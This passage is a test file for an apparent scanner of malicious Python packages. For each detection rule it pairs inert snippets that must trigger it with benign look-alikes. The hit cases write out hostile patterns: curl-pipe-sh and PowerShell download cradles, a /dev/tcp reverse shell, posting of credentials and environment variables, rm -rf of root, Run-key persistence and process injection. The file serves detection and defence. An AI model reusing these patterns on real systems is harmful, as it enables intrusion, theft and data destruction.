/**
 * Every rule with small inert snippets: positives that must fire and honest look-alikes that must
 * not. Addresses are TEST-NET (203.0.113.0/24), keys and tokens are obviously fake, and every
 * would-be payload is a placeholder such as print('placeholder').
 */
import { describe, expect, it } from 'vitest';
import { RULES } from './index.js';
import { rulesOf, scan } from '../testing.js';
import type { ArchiveKind } from '../../archive/index.js';
import { EXECUTABLE_URL } from './download.js';
import { closesDocstring } from './obfuscation.js';
import { inProse } from './util.js';

interface Case {
  name: string;
  files: Record<string, string | Uint8Array>;
  kind?: ArchiveKind;
  archive?: string;
}

/** A module of the package `demo` (its __init__.py makes it one: files outside packages are auxiliary). */
const mod = (code: string): Record<string, string> => ({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/demo/mod.py': code });
const setup = (code: string): Record<string, string> => ({ 'demo-1.0/setup.py': code });
const lines = (...l: string[]): string => l.join('\n') + '\n';

const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)]);
const PE = new Uint8Array([0x4d, 0x5a, ...new Array(62).fill(0)]);

const CASES: Record<string, { hit: Case[]; miss: Case[] }> = {
  'install-process': {
    hit: [{ name: 'setup-py-runs-curl', files: setup(lines('import os', "os.system('echo placeholder')", 'from setuptools import setup', 'setup()')) }],
    miss: [{ name: 'process-in-a-module-is-not-install-time', files: mod(lines('import subprocess', "subprocess.run(['git', 'status'])")) }],
  },
  'install-network': {
    hit: [{ name: 'setup-py-fetches-url', files: setup(lines('import urllib.request', "urllib.request.urlopen('http://203.0.113.5/x')")) }],
    miss: [{ name: 'setup-py-without-network', files: setup(lines('from setuptools import setup', "setup(name='demo')")) }],
  },
  'install-exec': {
    hit: [{ name: 'setup-py-execs-a-string', files: setup(lines('code = "print(1)"', 'exec(code)')) }],
    miss: [
      { name: 'setup-py-execs-its-version-file', files: setup(lines("with open('demo/_version.py') as f:", '    exec(f.read(), about)')) },
      { name: 'setup-py-execs-open-read-inline', files: setup(lines("exec(open('demo/__about__.py').read())")) },
    ],
  },
  'setup-suspicious-import': {
    hit: [{ name: 'setup-py-imports-socket-and-base64', files: setup(lines('import socket, base64', 'from setuptools import setup')) }],
    miss: [{ name: 'setup-py-imports-build-modules', files: setup(lines('import os, sys', 'from setuptools import setup, Extension')) }],
  },
  'cmdclass-override': {
    hit: [
      {
        name: 'install-command-overridden',
        files: setup(
          lines(
            'from setuptools import setup',
            'from setuptools.command.install import install',
            'class PostInstall(install):',
            '    def run(self):',
            '        install.run(self)',
            "setup(name='demo', cmdclass={'install': PostInstall})",
          ),
        ),
      },
    ],
    miss: [
      {
        name: 'build-ext-override-is-ordinary',
        files: setup(lines('from setuptools import setup', 'from setuptools.command.build_ext import build_ext', 'class B(build_ext):', '    def run(self): pass', "setup(cmdclass={'build_ext': B})")),
      },
    ],
  },
  'pth-exec': {
    hit: [
      { name: 'pth-imports-and-execs', files: { 'demo/evil.pth': lines("import base64; exec(base64.b64decode('cHJpbnQoJ3BsYWNlaG9sZGVyJyk='))") }, kind: 'wheel' },
      {
        name: 'pth-spawns-a-hidden-interpreter',
        files: { 'demo_init.pth': lines("import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import demo._hook'], stdout=subprocess.DEVNULL)") },
        kind: 'wheel',
      },
    ],
    miss: [
      { name: 'pth-with-unknown-import-is-only-pth-import', files: { 'demo/hook.pth': lines('import demo_hook') }, kind: 'wheel' },
      {
        name: 'coverage-style-exec-of-quoted-code',
        files: { 'a1_demo.pth': "import sys; exec('import os\\nif os.getenv(\"DEMO_START\"):\\n    import demo\\n    demo.start()\\n')\n" },
        kind: 'wheel',
      },
      { name: 'pth-with-paths-only', files: { 'demo.pth': lines('/opt/demo/lib', 'src') }, kind: 'wheel' },
      {
        name: 'setuptools-distutils-precedence-pth',
        files: {
          'distutils-precedence.pth':
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
        },
        kind: 'wheel',
      },
    ],
  },
  'pth-import': {
    hit: [
      { name: 'pth-with-unknown-import', files: { 'demo/hook.pth': lines('import demo_hook') }, kind: 'wheel' },
      {
        name: 'nspkg-lookalike-with-extra-statement',
        files: {
          'evil-nspkg.pth':
            "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));importlib = __import__('importlib.util');__import__('demo_payload');m = m or sys.modules.setdefault('demo', types.ModuleType('demo'))\n",
        },
        kind: 'wheel',
      },
    ],
    miss: [
      {
        name: 'setuptools-nspkg-namespace-shim',
        files: {
          'demo-1.0-py3.11-nspkg.pth':
            "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo', 'ns'));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('demo.ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo.ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo.ns', types.ModuleType('demo.ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['demo'], 'ns', m)\n",
        },
        kind: 'wheel',
      },
    ],
  },
  'build-backend-in-tree': {
    hit: [
      {
        name: 'backend-path-points-into-sdist',
        files: {
          'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = []', 'build-backend = "backend"', 'backend-path = ["_build"]'),
          'demo-1.0/_build/backend.py': lines('def build_wheel(*a): pass'),
        },
      },
    ],
    miss: [{ name: 'published-backend', files: { 'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = ["hatchling"]', 'build-backend = "hatchling.build"') } }],
  },
  'exec-decoded': {
    hit: [
      { name: 'exec-of-aliased-base64', files: mod(lines('import base64 as b', "exec(b.b64decode('cHJpbnQoJ3BsYWNlaG9sZGVyJyk='))")) },
      { name: 'exec-through-variable-and-zlib', files: mod(lines('import zlib, base64', "blob = base64.b64decode('eJwrKMrMK1FQykvMTVUoSMzJTM4vSgUAT7MHeQ==')", 'code = zlib.decompress(blob)', 'exec(code)')) },
      { name: 'eval-alias-of-marshal', files: mod(lines('import marshal', "data = b'\\xe3placeholder-not-bytecode'", 'run = exec', 'run(marshal.loads(data))')) },
      { name: 'exec-of-reversed-literal', files: mod(lines("exec(')\\'redlohecalp\\'(tnirp'[::-1])")) },
      { name: 'exec-of-rot13', files: mod(lines('import codecs', "exec(codecs.decode('cevag(1)', 'rot13'))")) },
      { name: 'exec-of-xor-join', files: mod(lines('k = 7', "data = 'wuni`u/6.-placeholder'", "exec(''.join(chr(ord(c) ^ k) for c in data))")) },
      { name: 'getattr-builtins-exec-of-hex', files: mod(lines("getattr(__builtins__, 'exec')(bytes.fromhex('7072696e74283129'))")) },
    ],
    miss: [
      { name: 'exec-of-template-string', files: mod(lines("src = 'def f(): return 1'", 'exec(src, ns)')) },
      { name: 'eval-of-repr-of-reversed-array', files: mod(lines('xx = arr[::-1]', 'assert eval(repr(xx)) == xx')) },
      { name: 'decode-without-exec', files: mod(lines('import base64', "data = base64.b64decode('aGk=')", 'print(data)')) },
      {
        // keras/TensorFlow rebuild a saved Lambda layer from the model file the caller loads.
        name: 'function-rebuilt-from-caller-data',
        files: mod(lines('import codecs, marshal, types', 'def func_load(code, globs):', "    raw = codecs.decode(code.encode('ascii'), 'base64')", '    return types.FunctionType(marshal.loads(raw), globs)')),
      },
      {
        // An import hook running cached bytecode (future's past.translation).
        name: 'bytecode-from-a-cache-file',
        files: mod(lines('import marshal', 'def load(path, ns):', "    with open(path, 'rb') as f:", '        data = f.read()', '    exec(marshal.loads(data[16:]), ns)')),
      },
    ],
  },
  'exec-dynamic': {
    hit: [{ name: 'eval-of-variable', files: mod(lines('def f(expr):', '    return eval(expr)')) }],
    miss: [{ name: 'eval-of-literal', files: mod(lines("eval('1 + 1')")) }],
  },
  'api-obfuscation': {
    hit: [
      { name: 'getattr-builtins-exec', files: mod(lines("f = getattr(__builtins__, 'ex' + 'ec')", "f('print(1)')")) },
      { name: 'builtins-dict-eval', files: mod(lines("__builtins__.__dict__['eval']('1')")) },
      { name: 'vars-os-system', files: mod(lines('import os', "vars(os)['system']('echo placeholder')")) },
      { name: 'getattr-os-decoded-name', files: mod(lines('import os, base64', "name = base64.b64decode('c3lzdGVt').decode()", 'getattr(os, name)("x")')) },
    ],
    miss: [
      { name: 'getattr-builtins-loop-over-operators', files: mod(lines('import builtins', 'for op in ops:', '    fn = getattr(builtins, op)')) },
      { name: 'getattr-on-own-object', files: mod(lines("handler = getattr(self, 'on_' + event)")) },
      // six/future/SQLAlchemy's py2-compatible spelling of exec: named in plain sight.
      { name: 'getattr-builtins-exec-literal', files: mod(lines('import builtins', 'exec_ = getattr(builtins, "exec")')) },
    ],
  },
  'import-obfuscated': {
    hit: [
      { name: 'import-of-assembled-name', files: mod(lines("m = __import__('o' + 's')")) },
      { name: 'inline-import-of-os', files: mod(lines("__import__('os').system('echo placeholder')")) },
      { name: 'import-module-of-decoded-name', files: mod(lines('import importlib, base64', "importlib.import_module(base64.b64decode('b3M=').decode())")) },
    ],
    miss: [{ name: 'plugin-import-from-config', files: mod(lines('import importlib', 'plugin = importlib.import_module(config.plugin)')) }],
  },
  'exec-remote': {
    hit: [
      { name: 'exec-of-requests-text', files: mod(lines('import requests', "exec(requests.get('http://203.0.113.5/x').text)")) },
      { name: 'exec-of-urlopen-read-via-variable', files: mod(lines('from urllib.request import urlopen', "body = urlopen('http://203.0.113.5/x').read()", 'exec(body)')) },
    ],
    miss: [{ name: 'json-of-a-response', files: mod(lines('import requests', "data = requests.get('https://example.org/api').json()")) }],
  },
  'download-executable': {
    hit: [
      {
        name: 'urlretrieve-then-run',
        files: mod(
          lines(
            'import urllib.request, subprocess, os',
            'def fetch():',
            "    path = '/tmp/placeholder.bin'",
            "    urllib.request.urlretrieve('http://203.0.113.5/placeholder.bin', path)",
            '    os.chmod(path, 0o755)',
            '    subprocess.Popen([path])',
          ),
        ),
      },
    ],
    miss: [
      {
        name: 'download-and-process-in-unrelated-functions',
        files: mod(lines('import urllib.request, subprocess', 'def a(path):', "    urllib.request.urlretrieve('https://example.org/data.csv', path)", 'def b(path):', "    subprocess.run(['wc', '-l', path])")),
      },
    ],
  },
  'obfuscation-encoded-blob': {
    hit: [{ name: 'long-random-base64-literal', files: mod(`payload = '${pseudoRandomBase64(4000)}'\n`) }],
    miss: [{ name: 'long-repetitive-literal', files: mod(`table = '${'ABCD'.repeat(1000)}'\n`) }],
  },
  'obfuscation-chr': {
    hit: [{ name: 'chr-join-map', files: mod(lines("u = ''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 120]))")) }],
    miss: [{ name: 'single-chr', files: mod(lines('sep = chr(10)')) }],
  },
  'obfuscation-hidden-margin': {
    hit: [{ name: 'code-after-200-spaces', files: mod(`import os${' '.repeat(200)}; print('placeholder')\n`) }],
    miss: [
      { name: 'comment-after-spaces', files: mod(`x = 1${' '.repeat(200)}# aligned comment\n`) },
      { name: 'long-ordinary-line', files: mod(`x = [${'1, '.repeat(100)}]\n`) },
    ],
  },
  'obfuscation-pyarmor': {
    hit: [{ name: 'pyarmor-runtime', files: mod(lines('from pytransform import pyarmor_runtime', 'pyarmor_runtime()', "__pyarmor__(__name__, __file__, b'placeholder')")) }],
    miss: [{ name: 'mentions-armor-in-a-name', files: mod(lines('armor = 1')) }],
  },
  'obfuscation-identifiers': {
    hit: [{ name: 'mangled-names', files: mod(Array.from({ length: 12 }, (_, i) => `${'lI'.repeat(3)}${'l'.repeat(i + 1)} = ${i}`).join('\n') + '\n') }],
    miss: [{ name: 'ordinary-names', files: mod(lines('alpha = 1', 'beta = 2', 'll = 3')) }],
  },
  'obfuscation-deep-nesting': {
    hit: [{ name: 'four-hundred-parens', files: mod('x = ' + '('.repeat(400) + '1' + ')'.repeat(400) + '\n') }],
    miss: [{ name: 'ten-parens', files: mod('x = ' + '('.repeat(10) + '1' + ')'.repeat(10) + '\n') }],
  },
  'trojan-source': {
    hit: [{ name: 'rlo-in-comment', files: mod(lines('access = "user"', 'if access != "user\u202e \u2066# admin\u2069 \u2066": pass')) }],
    miss: [{ name: 'arabic-text-in-string', files: mod(lines('greeting = "مرحبا"')) }],
  },
  steganography: {
    hit: [{ name: 'stegano-reveal-exec', files: mod(lines('from stegano import lsb', "exec(lsb.reveal('logo.png'))")) }],
    miss: [{ name: 'image-processing-without-exec', files: mod(lines('from PIL import Image', "im = Image.open('a.png')", 'px = im.getpixel((0, 0))')) }],
  },
  'process-spawn': {
    hit: [{ name: 'subprocess-run', files: mod(lines('import subprocess', "subprocess.run(['git', 'status'])")) }],
    miss: [{ name: 'no-process', files: mod(lines('x = 1')) }],
  },
  'silent-process': {
    hit: [
      { name: 'no-window-flag', files: mod(lines('import subprocess', "subprocess.Popen(['placeholder.exe'], creationflags=subprocess.CREATE_NO_WINDOW)")) },
      { name: 'start-b', files: mod(lines('import os', "os.system('start /b placeholder.exe')")) },
      { name: 'nohup-background', files: mod(lines('import os', "os.system('nohup ./placeholder > /dev/null 2>&1 &')")) },
    ],
    miss: [{ name: 'quiet-git-probe', files: mod(lines('import subprocess', "subprocess.run(['git', 'rev-parse'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)")) }],
  },
  'shell-download-command': {
    hit: [
      { name: 'curl-pipe-sh', files: mod(lines('import os', "os.system('curl -s http://203.0.113.5/x | sh')")) },
      { name: 'powershell-cradle-in-bat', files: { 'demo-1.0/tools/run.bat': lines('powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/x\')"') } },
      { name: 'decoded-curl-pipe-bash', files: mod(lines('import base64', `cmd = base64.b64decode('${Buffer.from('curl http://203.0.113.5/x | bash').toString('base64')}')`)) },
      // The escape's hex digits run into `curl` in the text (`u00e9curl`); the value reads `écurl`.
      { name: 'curl-after-a-non-ascii-escape', files: mod(lines('import os', "os.system('\\u00e9curl -s https://example.org/x | sh')")) },
      { name: 'irm-alias-after-a-tab-escape', files: mod(lines('import os', "os.system('powershell_ -c irm\\thttps://example.org/x | iex')")) },
    ],
    miss: [
      { name: 'curl-to-file', files: mod(lines('import subprocess', "subprocess.run(['curl', '-o', 'data.json', 'https://example.org/data.json'])")) },
      { name: 'powershell-keyword-list', files: mod(lines("KEYWORDS = 'iex ihy ii ipal irm ise iwmi iwr kill'")) },
      { name: 'place-name', files: mod(lines('import os', "NAMES = {'pt': u'Dois Irm\\u00e3os', 'cmd': os.system}")) },
    ],
  },
  'network-request': {
    hit: [{ name: 'requests-get', files: mod(lines('import requests', "requests.get('https://example.org')")) }],
    miss: [{ name: 'no-network', files: mod(lines('import json', 'json.dumps({})')) }],
  },
  'import-network': {
    hit: [
      { name: 'request-at-top-level', files: mod(lines('import requests', "requests.get('http://203.0.113.5/ping')")) },
      { name: 'dns-callback-at-top-level', files: mod(lines('import socket', "socket.gethostbyname('demo.example.invalid')")) },
    ],
    miss: [
      { name: 'request-inside-function', files: mod(lines('import requests', 'def ping():', "    return requests.get('https://example.org')")) },
      { name: 'session-object-at-top-level', files: mod(lines('import requests', 'SESSION = requests.Session()')) },
    ],
  },
  'destructive-operation': {
    hit: [
      { name: 'rmtree-home', files: mod(lines('import os, shutil', "shutil.rmtree(os.path.expanduser('~'))")) },
      { name: 'rm-rf-root-string', files: mod(lines("CMD = 'rm -rf --no-preserve-root /'")) },
    ],
    miss: [{ name: 'rmtree-own-build-dir', files: mod(lines('import shutil', "shutil.rmtree('build')")) }],
  },
  'hardcoded-ip': {
    hit: [
      { name: 'url-with-public-ip', files: mod(lines("URL = 'http://203.0.113.5:8080/collect'")) },
      { name: 'socket-to-ip', files: mod(lines('import socket', 's = socket.socket()', "s.connect(('198.51.100.7', 4444))")) },
    ],
    miss: [
      { name: 'loopback-and-private', files: mod(lines("A = 'http://127.0.0.1:8000/'", "B = 'http://192.168.1.10/'", "C = 'http://10.0.0.1/'")) },
      { name: 'version-string', files: mod(lines("__version__ = '1.2.3.4'")) },
    ],
  },
  'exfil-endpoint': {
    hit: [
      { name: 'discord-webhook', files: mod(lines("HOOK = 'https://discord.com/api/webhooks/000000000000000000/placeholder-token'")) },
      { name: 'telegram-bot', files: mod(lines("API = 'https://api.telegram.org/bot000000:PLACEHOLDER/sendMessage'")) },
      { name: 'webhook-site-in-base64', files: mod(lines('import base64', `u = base64.b64decode('${Buffer.from('https://webhook.site/00000000-placeholder').toString('base64')}')`)) },
    ],
    miss: [
      { name: 'docs-mention-in-docstring', files: mod(lines('def f():', '    """Posts to https://discord.com/api/webhooks/000000000000/abcdefgh if configured."""')) },
      { name: 'telegram-base-url-without-token', files: mod(lines("API = 'https://api.telegram.org/bot'")) },
    ],
  },
  'messaging-api': {
    hit: [{ name: 'telegram-base-url-built-with-a-caller-token', files: mod(lines("API = 'https://api.telegram.org/bot'", "url = API + token + '/sendMessage'")) }],
    miss: [{ name: 'ordinary-api', files: mod(lines("API = 'https://api.github.com/'")) }],
  },
  'shady-link': {
    hit: [
      { name: 'url-shortener', files: mod(lines("U = 'https://bit.ly/placeholder'")) },
      { name: 'dynamic-dns', files: mod(lines("U = 'http://placeholder.duckdns.org/p'")) },
    ],
    miss: [
      { name: 'ordinary-domain', files: mod(lines("U = 'https://docs.python.org/3/'")) },
      { name: 'ordinary-site-on-a-cheap-tld', files: mod(lines("U = 'https://www.tcl.tk/about/'")) },
    ],
  },
  'system-info': {
    hit: [{ name: 'getuser-and-hostname', files: mod(lines('import getpass, socket', 'u = getpass.getuser()', 'h = socket.gethostname()')) }],
    miss: [{ name: 'platform-system', files: mod(lines('import platform', 'p = platform.system()')) }],
  },
  'cloud-metadata': {
    hit: [{ name: 'aws-imds', files: mod(lines("IMDS = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'")) }],
    miss: [{ name: 'other-link-local', files: mod(lines("X = 'http://169.254.1.1/'")) }],
  },
  'dns-exfil': {
    hit: [{ name: 'hex-encoded-subdomain', files: mod(lines('import socket, binascii', "socket.gethostbyname(binascii.hexlify(data).decode() + '.example.invalid')")) }],
    miss: [{ name: 'plain-lookup', files: mod(lines('import socket', 'socket.gethostbyname(host)')) }],
  },
  'credential-files': {
    hit: [{ name: 'aws-credentials-path', files: mod(lines('import os', "p = os.path.expanduser('~/.aws/credentials')")) }],
    miss: [{ name: 'aws-word-in-text', files: mod(lines("msg = 'configure your AWS credentials first'")) }],
  },
  'ssh-keys': {
    hit: [{ name: 'id-rsa-path', files: mod(lines("key = open(os.path.expanduser('~/.ssh/id_rsa')).read()")) }],
    miss: [
      { name: 'lexer-filename-list', files: mod(lines("filenames = ('id_dsa', 'id_ecdsa', '*.pem')")) },
      { name: 'ssh-suffix-in-a-file-name', files: mod(lines("name = base + '/sshproxy.ssh'")) },
    ],
  },
  'browser-data': {
    hit: [{ name: 'chrome-login-data', files: mod(lines("db = os.path.join(base, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')")) }],
    miss: [{ name: 'login-word', files: mod(lines("title = 'Login'")) }],
  },
  'token-wallet-theft': {
    hit: [
      { name: 'discord-leveldb', files: mod(lines("p = appdata + '\\\\discord\\\\Local Storage\\\\leveldb'")) },
      { name: 'wallet-dat', files: mod(lines("w = home + '/.bitcoin/wallet.dat'")) },
    ],
    miss: [{ name: 'discord-api-client', files: mod(lines("BASE = 'https://discord.com/api/v10'")) }],
  },
  'env-dump': {
    hit: [{ name: 'json-dumps-environ', files: mod(lines('import os, json', 'blob = json.dumps(dict(os.environ))')) }],
    miss: [{ name: 'environ-copy-for-subprocess', files: mod(lines('import os, subprocess', 'env = os.environ.copy()', "subprocess.run(['x'], env=env)")) }],
  },
  'secret-env-read': {
    hit: [{ name: 'github-token', files: mod(lines('import os', "t = os.environ.get('GITHUB_TOKEN')")) }],
    miss: [{ name: 'home-variable', files: mod(lines('import os', "h = os.environ.get('HOME')")) }],
  },
  'exfiltrate-sensitive-data': {
    hit: [
      { name: 'environ-posted', files: mod(lines('import os, requests', "requests.post('http://203.0.113.5/c', json=dict(os.environ))")) },
      {
        name: 'credentials-file-via-variables',
        files: mod(
          lines(
            'import os, urllib.request',
            "path = os.path.expanduser('~/.aws/credentials')",
            'data = open(path).read()',
            "req = urllib.request.Request('http://203.0.113.5/c', data=data.encode())",
            'urllib.request.urlopen(req)',
          ),
        ),
      },
      { name: 'hostname-in-query', files: mod(lines('import socket, requests', "requests.get('http://203.0.113.5/p?h=' + socket.gethostname())")) },
    ],
    miss: [
      { name: 'token-header-to-api', files: mod(lines('import requests', "requests.get('https://api.example.org', headers={'X': token})")) },
      { name: 'environ-to-subprocess', files: mod(lines('import os, subprocess', "subprocess.run(['x'], env=dict(os.environ))")) },
      { name: 'environ-into-a-queue', files: mod(lines('import os, queue, requests', 'q = queue.Queue()', 'q.put(dict(os.environ))', "requests.get('https://example.org')")) },
      { name: 'single-token-variable-as-header', files: mod(lines('import os, requests', "requests.get('https://api.example.org', headers={'A': os.environ['API_TOKEN']})")) },
    ],
  },
  'credential-harvesting': {
    hit: [
      {
        name: 'sweeps-three-kinds',
        files: mod(lines("a = '~/.aws/credentials'", "b = '~/.ssh/id_rsa'", "c = 'Local State'", "d = '~/.pypirc'")),
      },
    ],
    miss: [{ name: 'one-kind-only', files: mod(lines("a = '~/.aws/credentials'", "b = '~/.aws/config'")) }],
  },
  persistence: {
    hit: [
      { name: 'registry-run-key', files: mod(lines('import winreg', "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)", "winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'placeholder.exe')")) },
      { name: 'systemd-user-unit', files: mod(lines("unit = os.path.expanduser('~/.config/systemd/user/placeholder.service')")) },
      { name: 'crontab-edit', files: mod(lines('import os', "os.system('(crontab -l; echo placeholder) | crontab -')")) },
    ],
    miss: [
      { name: 'run-word', files: mod(lines("mode = 'Run'")) },
      // PEP 514 registration of an interpreter (findpython), not an autostart entry.
      { name: 'registry-write-elsewhere', files: mod(lines('import winreg', "k = winreg.CreateKeyEx(winreg.HKEY_CURRENT_USER, r'Software\\Python\\Demo')", "winreg.SetValueEx(k, 'DisplayName', 0, winreg.REG_SZ, 'Demo')")) },
    ],
  },
  'persistence-startup-file': {
    hit: [{ name: 'appends-bashrc', files: mod(lines("with open(os.path.expanduser('~/.bashrc'), 'a') as f:", "    f.write('placeholder')")) }],
    miss: [{ name: 'bash-word', files: mod(lines("shell = 'bash'")) }],
  },
  cryptominer: {
    hit: [
      { name: 'stratum-url', files: mod(lines("POOL = 'stratum+tcp://pool.example.invalid:3333'")) },
      { name: 'xmrig-in-shell-script', files: { 'demo-1.0/run.sh': lines('./xmrig --donate-level 1 -o placeholder') } },
    ],
    miss: [{ name: 'mining-word', files: mod(lines("topic = 'data mining'")) }],
  },
  'reverse-shell': {
    hit: [
      {
        name: 'socket-dup2-shell',
        files: mod(
          lines(
            'import socket, os, pty',
            'def _never_called():',
            '    s = socket.socket()',
            "    s.connect(('203.0.113.5', 9))",
            '    os.dup2(s.fileno(), 0)',
            "    pty.spawn('/bin/sh')",
          ),
        ),
      },
      { name: 'dev-tcp-string', files: mod(lines("CMD = 'bash -i >& /dev/tcp/203.0.113.5/9 0>&1'")) },
    ],
    miss: [{ name: 'pty-without-socket', files: mod(lines('import pty', "pty.spawn('/bin/sh')")) }],
  },
  'process-injection': {
    hit: [
      {
        name: 'alloc-write-remote-thread',
        files: mod(lines('import ctypes', 'k = ctypes.windll.kernel32', 'a = k.VirtualAllocEx(h, 0, n, 0x3000, 0x40)', 'k.WriteProcessMemory(h, a, buf, n, None)', 'k.CreateRemoteThread(h, None, 0, a, None, 0, None)')),
      },
    ],
    miss: [
      { name: 'ctypes-strlen', files: mod(lines('import ctypes', "ctypes.CDLL(None).strlen(b'x')")) },
      // What a debugger does: read another process and set a thread's registers.
      { name: 'debugger-reads-memory', files: mod(lines('import ctypes', 'k = ctypes.windll.kernel32', 'k.ReadProcessMemory(h, addr, buf, n, None)', 'k.SetThreadContext(t, ctx)')) },
    ],
  },
  'dll-hijacking': {
    hit: [
      { name: 'writes-a-dll', files: mod(lines("with open(target_dir + '\\\\version.dll', 'wb') as f:", '    f.write(blob)')) },
      { name: 'rundll32', files: mod(lines('import os', "os.system('rundll32 placeholder.dll,Entry')")) },
    ],
    miss: [{ name: 'reads-a-dll-name', files: mod(lines("name = 'python3.dll'")) }],
  },
  'clipboard-access': {
    hit: [{ name: 'pyperclip-paste', files: mod(lines('import pyperclip', 'text = pyperclip.paste()')) }],
    miss: [{ name: 'no-clipboard', files: mod(lines('text = input()')) }],
  },
  'keylogging-screencapture': {
    hit: [
      { name: 'pynput-listener', files: mod(lines('from pynput import keyboard', 'keyboard.Listener(on_press=cb)')) },
      { name: 'imagegrab', files: mod(lines('from PIL import ImageGrab', 'ImageGrab.grab()')) },
    ],
    miss: [{ name: 'image-open', files: mod(lines('from PIL import Image', "Image.open('a.png')")) }],
  },
  'archive-path-traversal': {
    hit: [], // archive anomalies come from the readers; see engine.test.ts
    miss: [{ name: 'normal-sdist', files: mod('x = 1\n') }],
  },
  'archive-link-escape': { hit: [], miss: [{ name: 'normal-sdist', files: mod('x = 1\n') }] },
  'archive-link': { hit: [], miss: [{ name: 'normal-sdist', files: mod('x = 1\n') }] },
  'archive-bomb': { hit: [], miss: [{ name: 'normal-sdist', files: mod('x = 1\n') }] },
  'archive-anomaly': { hit: [], miss: [{ name: 'normal-sdist', files: mod('x = 1\n') }] },
  'sdist-binary': {
    hit: [
      { name: 'elf-renamed-as-data', files: { 'demo-1.0/demo/data.dat': ELF } },
      { name: 'pe-exe', files: { 'demo-1.0/tools/helper.exe': PE } },
    ],
    miss: [{ name: 'text-data', files: { 'demo-1.0/demo/data.dat': 'just text, long enough to be sniffed for magic bytes at all......' } }],
  },
  'pure-wheel-binary': {
    hit: [{ name: 'elf-in-none-any-wheel', files: { 'demo/_native.so': ELF }, kind: 'wheel' }],
    miss: [{ name: 'elf-in-platform-wheel', files: { 'demo/_native.so': ELF }, kind: 'wheel', archive: 'demo-1.0-cp312-cp312-manylinux_2_17_x86_64.whl' }],
  },
  'compiled-python-only': {
    hit: [{ name: 'pyc-without-py', files: { 'demo/__pycache__/core.cpython-312.pyc': new Uint8Array(16) }, kind: 'wheel' }],
    miss: [{ name: 'pyc-beside-py', files: { 'demo/core.py': 'x = 1\n', 'demo/__pycache__/core.cpython-312.pyc': new Uint8Array(16) }, kind: 'wheel' }],
  },
  'unscanned-source': { hit: [], miss: [{ name: 'small-source', files: mod('x = 1\n') }] },
  'wheel-sdist-mismatch': { hit: [], miss: [] }, // needs a pair; see engine.test.ts
  // Judged on the index's metadata, not on files; see src/app/inspect-sources.test.ts.
  'metadata-no-description': { hit: [], miss: [] },
  'metadata-first-release': { hit: [], miss: [] },
  'metadata-disposable-email': { hit: [], miss: [] },
  'metadata-no-source-link': { hit: [], miss: [] },
};

/** Deterministic high-entropy base64 text (a linear congruential generator, not a payload). */
function pseudoRandomBase64(n: number): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let x = 12345;
  let s = '';
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    s += alphabet[(x >>> 16) % 64];
  }
  return s;
}

describe('every rule has cases', () => {
  it('lists each rule of the registry', () => {
    expect(Object.keys(CASES).sort()).toEqual(RULES.map((r) => r.id).sort());
  });
});

const KIND = new Map(RULES.map((r) => [r.id, r.kind]));

for (const [rule, { hit, miss }] of Object.entries(CASES)) {
  if (hit.length + miss.length === 0) continue;
  describe(rule, () => {
    for (const c of hit) {
      it(`fires on ${c.name}`, async () => {
        // Capabilities are only analysed in files where some threat could be (prefilter.ts), so
        // their own cases run with every file parsed; threats run as the CLI runs them.
        const r = await scan(c.files, c.kind, c.archive, { prefilter: KIND.get(rule) !== 'capability' });
        expect(rulesOf(r)).toContain(rule);
        const f = r.findings.find((x) => x.rule === rule)!;
        expect(f.file).not.toBe(undefined);
      });
    }
    for (const c of miss) {
      it(`stays quiet on ${c.name}`, async () => {
        const r = await scan(c.files, c.kind, c.archive, { prefilter: false });
        expect(rulesOf(r)).not.toContain(rule);
      });
    }
  });
}

describe('the prefilter', () => {
  // Every case of every rule, threat findings with and without the prefilter: skipping a file
  // must never cost a threat finding.
  const all = Object.values(CASES).flatMap(({ hit, miss }) => [...hit, ...miss]);
  it.each(all.map((c) => [c.name, c] as [string, Case]))('keeps every threat finding of %s', async (_n, c) => {
    const threats = (r: Awaited<ReturnType<typeof scan>>): string[] =>
      r.findings.filter((f) => KIND.get(f.rule) !== 'capability').map((f) => `${f.rule} ${f.file}:${f.line ?? 0}`).sort();
    const on = await scan(c.files, c.kind, c.archive);
    const off = await scan(c.files, c.kind, c.archive, { prefilter: false });
    expect(threats(on)).toEqual(threats(off));
    expect(on.score).toBe(off.score);
  });
});

describe('hostile strings are read in one pass', () => {
  it('a 400 KB literal of `HTTP:///` is searched for executable URLs once', () => {
    // The regex retried at each `http://` and read to the end of the word every time.
    const word = 'HTTP:///'.repeat(50_000);
    expect(EXECUTABLE_URL.exec(`${word} x`)).toBeNull();
    expect(EXECUTABLE_URL.exec(`${word} see http://203.0.113.5/a/placeholder.EXE?x=1 now`)?.[0]).toBe('http://203.0.113.5/a/placeholder.EXE?x=1 ');
    expect(EXECUTABLE_URL.exec(`'http://203.0.113.5/placeholder.sh'`)?.index).toBe(1);
  });

  it('a line of 100,000 `"""#` before a line separator is judged in one pass', () => {
    // `['"]{3}\s*(#.*)?$` failed at the separator from every one of them, reading to it each time.
